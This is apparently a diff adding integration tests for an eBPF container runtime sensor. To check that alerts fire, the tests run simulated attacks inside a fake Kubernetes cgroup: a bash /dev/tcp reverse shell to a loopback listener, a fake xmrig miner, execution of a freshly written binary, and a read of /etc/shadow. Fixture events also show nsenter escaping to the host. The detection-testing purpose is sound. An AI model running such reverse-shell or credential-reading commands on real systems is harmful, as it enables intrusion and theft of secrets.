@@ -1,0 +1,276 @@
+"""The node sensor with real eBPF on this machine: attack simulations run in a subprocess inside a
+container-like cgroup (kubepods/pod<uid>/cri-containerd-<id>.scope) and must raise their alerts, attributed
+to that container; a benign workload (a pip install, a web server under load) in another must raise none.
+Skipped, with the reason, where eBPF is unavailable."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import secrets
+import shutil
+import signal
+import socket
+import subprocess
+import sys
+import threading
+import time
+import urllib.request
+import uuid
+import zipfile
+from collections.abc import Callable, Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from stockade.sensor.adapters import convert
+from stockade.sensor.detect import Detector
+from stockade.sensor.events import Decoder, parse_cgroup_path
+from stockade.sensor.rules import load
+
+CLI = [sys.executable, "-m", "stockade.cli.main"]
+CGROUP2 = (
+    Path("/sys/fs/cgroup/unified") if Path("/sys/fs/cgroup/unified/cgroup.procs").exists() else Path("/sys/fs/cgroup")
+)
+
+
+def _ebpf_reason() -> str:
+    if os.geteuid() != 0:
+        return "not root"
+    if shutil.which("bpftrace") is None:
+        return "bpftrace is not installed"
+    if not (CGROUP2 / "cgroup.procs").exists():
+        return "no cgroup v2 hierarchy"
+    return ""
+
+
+live = pytest.mark.skipif(bool(_ebpf_reason()), reason=f"eBPF unavailable here: {_ebpf_reason()}")
+
+
+class FakeContainer:
+    """A cgroup named the way containerd names a Kubernetes container's, to run processes 'inside' it."""
+
+    def __init__(self) -> None:
+        self.pod_uid = str(uuid.uuid4())
+        self.id = secrets.token_hex(32)
+        self.path = CGROUP2 / "kubepods" / f"pod{self.pod_uid}" / f"cri-containerd-{self.id}.scope"
+        self.path.mkdir(parents=True)
+
+    def enter(self) -> Callable[[], None]:
+        procs = str(self.path / "cgroup.procs")
+
+        def move() -> None:
+            with open(procs, "w") as fh:
+                fh.write(str(os.getpid()))
+
+        return move
+
+    def remove(self) -> None:
+        for p in (self.path, self.path.parent):
+            with contextlib.suppress(OSError):
+                p.rmdir()
+
+
+@pytest.fixture
+def sensor(tmp_path: Path) -> Iterator[Callable[[], list[dict[str, Any]]]]:
+    alerts, stats = tmp_path / "alerts.jsonl", tmp_path / "stats.json"
+    proc = subprocess.Popen([*CLI, "sensor", "run", "-o", str(alerts), "--stats", str(stats), "--duration", "120"],
+                            stderr=subprocess.PIPE, text=True)  # fmt: skip
+    assert proc.stderr is not None
+    line = proc.stderr.readline()
+    if "sensor ready" not in line:
+        proc.kill()
+        pytest.fail(f"sensor did not start: {line}{proc.stderr.read()}")
+
+    def finish() -> list[dict[str, Any]]:
+        time.sleep(1.5)  # let the last events through
+        proc.send_signal(signal.SIGTERM)
+        proc.wait(timeout=30)
+        counters = json.loads(stats.read_text())
+        assert counters["dropped"] == 0 and counters["events"] > 0
+        return [json.loads(x) for x in alerts.read_text().splitlines()] if alerts.exists() else []
+
+    yield finish
+    if proc.poll() is None:
+        proc.kill()
+
+
+def _listener(port_holder: list[int], payload: bytes) -> threading.Thread:
+    srv = socket.socket()
+    srv.bind(("127.0.0.1", 0))
+    srv.listen(4)
+    srv.settimeout(20)
+    port_holder.append(srv.getsockname()[1])
+
+    def serve() -> None:
+        try:
+            conn, _ = srv.accept()
+            conn.sendall(payload)
+            time.sleep(0.5)
+            conn.close()
+        except OSError:
+            pass
+        finally:
+            srv.close()
+
+    t = threading.Thread(target=serve, daemon=True)
+    t.start()
+    return t
+
+
+@live
+def test_attacks_raise_alerts_attributed_to_their_container(sensor: Callable[[], list[dict[str, Any]]],
+                                                              tmp_path: Path) -> None:  # fmt: skip
+    box = FakeContainer()
+    try:
+        run = lambda *a, **k: subprocess.run(*a, preexec_fn=box.enter(), timeout=30, **k)  # noqa: E731
+        # 1. a reverse shell to a loopback listener, which sends it "exit"
+        port: list[int] = []
+        t = _listener(port, b"id\nexit\n")
+        run(["bash", "-c", f"bash -i >& /dev/tcp/127.0.0.1/{port[0]} 0>&1"], capture_output=True)
+        t.join(5)
+        # 2. a binary named like a miner connecting to a loopback "pool" on a stratum port
+        pool = socket.socket()
+        try:
+            pool.bind(("127.0.0.1", 3333))
+            pool.listen(1)
+        except OSError:
+            pool.close()
+            pool = None  # the port is taken: the connection attempt still happens
+        miner = tmp_path / "xmrig"
+        miner.write_text("#!/usr/bin/env python3\nimport socket\ns = socket.socket(); s.settimeout(2)\n"
+                         "s.connect_ex(('127.0.0.1', 3333))\n")  # fmt: skip
+        miner.chmod(0o755)
+        run([str(miner)], capture_output=True)
+        if pool is not None:
+            pool.close()
+        # 3. binary drift: a new executable written, then run
+        payload = tmp_path / "payload"
+        run(["sh", "-c", f"cat /bin/true > {payload} && chmod +x {payload} && {payload}"], capture_output=True)
+        # 4. credential access
+        run(["cat", "/etc/shadow"], capture_output=True)
+        alerts = sensor()
+    finally:
+        box.remove()
+    mine = [a for a in alerts if (a["evidence"][0].get("container") or {}).get("id") == box.id]
+    got = {a["rule"] for a in mine}
+    assert {"STK-RT-001", "STK-RT-002", "STK-RT-005", "STK-RT-006", "STK-RT-007", "STK-RT-009"} <= got, alerts
+    c = mine[0]["evidence"][0]["container"]
+    assert c["pod_uid"] == box.pod_uid and c["id"] == box.id
+    assert all(a["techniques"] and a["remediation"] for a in mine)
+
+
+@live
+def test_benign_workload_raises_nothing(sensor: Callable[[], list[dict[str, Any]]], tmp_path: Path) -> None:
+    box = FakeContainer()
+    try:
+        # a pip install (a local wheel: no network, no build) ...
+        wheel = tmp_path / "hello_stockade-1.0-py3-none-any.whl"
+        with zipfile.ZipFile(wheel, "w") as zf:
+            files = {
+                "hello_stockade/__init__.py": "X = 1\n",
+                "hello_stockade-1.0.dist-info/METADATA": "Metadata-Version: 2.1\nName: hello-stockade\nVersion: 1.0\n",
+                "hello_stockade-1.0.dist-info/WHEEL": "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\n"
+                "Tag: py3-none-any\n",
+            }
+            record = "".join(f"{name},,\n" for name in files) + "hello_stockade-1.0.dist-info/RECORD,,\n"
+            for name, text in {**files, "hello_stockade-1.0.dist-info/RECORD": record}.items():
+                zf.writestr(name, text)
+        target = tmp_path / "site"
+        subprocess.run([sys.executable, "-m", "pip", "install", "-q", "--no-index", "--no-deps", "--target", str(target),  # noqa: E501
+                        str(wheel)], preexec_fn=box.enter(), check=True, timeout=120, capture_output=True)  # fmt: skip
+        # ... and a web server under load
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            port = s.getsockname()[1]
+        web = subprocess.Popen([sys.executable, "-m", "http.server", str(port), "--bind", "127.0.0.1",
+                                "--directory", str(tmp_path)], preexec_fn=box.enter(),
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)  # fmt: skip
+        try:
+            for _ in range(100):
+                try:
+                    urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=2).read()
+                    break
+                except OSError:
+                    time.sleep(0.05)
+            for _ in range(300):
+                urllib.request.urlopen(f"http://127.0.0.1:{port}/{wheel.name}", timeout=2).read()
+        finally:
+            web.terminate()
+            web.wait(10)
+        alerts = sensor()
+    finally:
+        box.remove()
+    mine = [a for a in alerts if (a["evidence"][0].get("container") or {}).get("id") == box.id]
+    assert mine == []
+    assert (target / "hello_stockade" / "__init__.py").exists()
+
+
+def test_cgroup_paths_name_containers_and_pods() -> None:
+    cid = "a" * 64
+    cases = {
+        f"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1b2c3d4e_1111_2222_3333_444455556666.slice/cri-containerd-{cid}.scope": (  # noqa: E501
+            "1b2c3d4e-1111-2222-3333-444455556666",
+            cid,
+        ),
+        f"/kubepods/besteffort/pod1b2c3d4e-1111-2222-3333-444455556666/{cid}": (
+            "1b2c3d4e-1111-2222-3333-444455556666",
+            cid,
+        ),
+        f"/system.slice/docker-{cid}.scope": (None, cid),
+        "/user.slice/user-0.slice/session-1.scope": (None, None),
+    }
+    for path, (pod, ctr) in cases.items():
+        got = parse_cgroup_path(path)
+        assert got.get("pod_uid") == pod and got.get("id") == ctr, path
+
+
+def test_decoder_pairs_exec_and_tracks_drift() -> None:
+    d = Decoder()
+    common = "\t100\t4242\t4242\t1\t0\t1\tsh\tbash\t"
+    assert d.decode("EXEC" + common + "/usr/bin/nope\tnope") is None
+    assert d.decode("EXECRET" + common + "-2") is None  # failed exec (PATH search): no event
+    assert d.decode("OPEN" + common + "/tmp/dropper\t577")["fd"]["write"] is True
+    assert d.decode("EXEC" + common + "/tmp/dropper\tdropper\x1f-x") is None
+    ev = d.decode("EXECRET" + common + "0")
+    assert ev["proc"]["exe"] == "/tmp/dropper" and ev["proc"]["args"] == "-x" and ev["proc"]["exe_written"] is True
+    assert d.decode("garbage") is None and d.malformed == 1
+
+
+def test_falco_and_tetragon_events_through_the_rules() -> None:
+    falco = {"output": "...", "rule": "Terminal shell in container", "output_fields": {
+        "evt.type": "execve", "proc.name": "xmrig", "proc.exepath": "/tmp/xmrig", "proc.cmdline": "xmrig -o pool.x:3333",  # noqa: E501
+        "proc.pid": 10, "proc.ppid": 1, "user.uid": 0, "container.id": "abc123", "k8s.pod.name": "web-1",
+        "k8s.ns.name": "shop"}}  # fmt: skip
+    tetragon = {"process_exec": {"process": {"binary": "/usr/bin/nsenter", "arguments": "-t 1 -m -u -i -n sh",
+                                             "pid": 20, "pod": {"name": "debug", "namespace": "default",
+                                                                "container": {"id": "def456"}}},
+                                 "parent": {"binary": "/bin/bash", "pid": 19}}}  # fmt: skip
+    d = Detector(load())
+    for doc in (falco, tetragon):
+        ev = convert(doc)
+        assert ev is not None
+        d.process(ev)
+    assert {(a.rule, a.name) for a in d.alerts} == {("STK-RT-005", "web-1"), ("STK-RT-012", "debug")}
+
+
+def test_manifests_split_collector_and_publisher() -> None:
+    import yaml
+
+    out = subprocess.run([*CLI, "sensor", "manifests", "--namespace", "sec"], capture_output=True, text=True, check=True)
+    ds = next(d for d in yaml.safe_load_all(out.stdout) if d["kind"] == "DaemonSet")
+    ctrs = {c["name"]: c for c in ds["spec"]["template"]["spec"]["containers"]}
+    col, pub = ctrs["collector"], ctrs["publisher"]
+    assert col["securityContext"]["privileged"] is False
+    assert {"BPF", "PERFMON"} <= set(col["securityContext"]["capabilities"]["add"])
+    assert col["resources"]["limits"]["cpu"] and col["resources"]["limits"]["memory"]
+    assert pub["securityContext"]["runAsNonRoot"] is True and pub["securityContext"]["capabilities"]["drop"] == ["ALL"]
+    assert ds["metadata"]["namespace"] == "sec"
+
+
+def test_clear_error_without_ebpf(tmp_path: Path) -> None:
+    env = {**os.environ, "PATH": str(tmp_path)}  # no bpftrace on PATH
+    out = subprocess.run([*CLI, "sensor", "run", "--duration", "1"], capture_output=True, text=True, env=env)
+    assert out.returncode == 1 and "eBPF is not available" in out.stderr and "Traceback" not in out.stderr
